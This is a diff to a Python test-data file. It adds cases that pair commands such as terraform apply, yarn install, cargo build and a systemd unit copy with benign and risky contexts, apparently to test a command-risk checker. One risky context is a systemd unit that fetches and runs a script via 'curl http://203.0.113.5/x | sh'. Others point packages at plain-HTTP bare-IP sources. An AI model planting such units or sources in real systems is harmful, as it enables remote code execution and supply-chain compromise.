@@ -252,6 +252,60 @@ MADE_BY_SESSION: list[tuple[str, str, str, str]] = [
     ),
 ]
 
+GIT_AT = 'text Cargo.toml \'[package]\\nname = "a"\\n[dependencies]\\nb = { git = "%s/b.git" }\\n\''
+PLAYED = (
+    'text main.tf \'provider "aws" {\\n  access_key = "test"\\n  endpoints {\\n    s3 = "%s"\\n  }\\n}\\n'
+    'resource "aws_s3_bucket" "a" {}\\n\''
+)
+UNIT = "text app.service '[Unit]\\nDescription=a\\n[Service]\\nExecStart=%s\\n'"
+SSH = "var SSH_CONNECTION '203.0.113.9 50000 203.0.113.1 22'"
+
+FROM_WHERE_AND_WHAT: list[tuple[str, str, str, str]] = [
+    (
+        "apply: by an emulator here, or in a cloud",
+        "terraform apply -auto-approve",
+        PLAYED % "http://localhost:4566",
+        PLAYED % "https://s3.eu-west-1.amazonaws.com",
+    ),
+    (
+        "a state put there: over none, or over one",
+        "terraform state push old.tfstate",
+        "file old.tfstate\n" + ONLY_NULL,
+        "file old.tfstate\n" + ONLY_NULL + STATE % BASE,
+    ),
+    (
+        "a unit by its name: a plain program, or what is fetched",
+        "sudo cp app.service /etc/systemd/system/app.service",
+        UNIT % "/usr/bin/node /srv/app/index.js",
+        UNIT % '/bin/sh -c "curl http://203.0.113.5/x | sh"',
+    ),
+    (
+        "by a lock of yarn: from a registry, or a machine without a name",
+        "yarn install --frozen-lockfile",
+        "file package.json\ntext yarn.lock 'a@^1:\\n  resolved \"https://registry.yarnpkg.com/a/-/a-1.0.0.tgz#x\"\\n'",
+        "file package.json\ntext yarn.lock 'a@^1:\\n  resolved \"http://198.51.100.7/a-1.0.0.tgz\"\\n'",
+    ),
+    (
+        "a dependency of git: over a closed connection, or an open one",
+        "cargo build --release",
+        GIT_AT % "https://git.example.org",
+        GIT_AT % "http://203.0.113.5",
+    ),
+    (
+        "a source of packages: over a closed connection, or an open one",
+        "poetry install",
+        "text pyproject.toml '[[tool.poetry.source]]\\nurl = \"https://pypi.example.org/simple\"\\n'",
+        "text pyproject.toml '[[tool.poetry.source]]\\nurl = \"http://203.0.113.5/simple\"\\n'",
+    ),
+    ("switched off in a while: before it, or over ssh", "sudo shutdown -h +60", "var XDG_SEAT seat0", SSH),
+    (
+        "a port by its number: a server's, or a database's",
+        "fuser -k -n tcp $PORT",
+        "listens node",
+        "listens postgres",
+    ),
+]
+
 REPLACED_JOBS: list[tuple[str, str, str]] = [
     ("what is listed goes nowhere", "crontab -l | (echo '0 3 * * * /usr/bin/x') | crontab -", "file a"),
     (
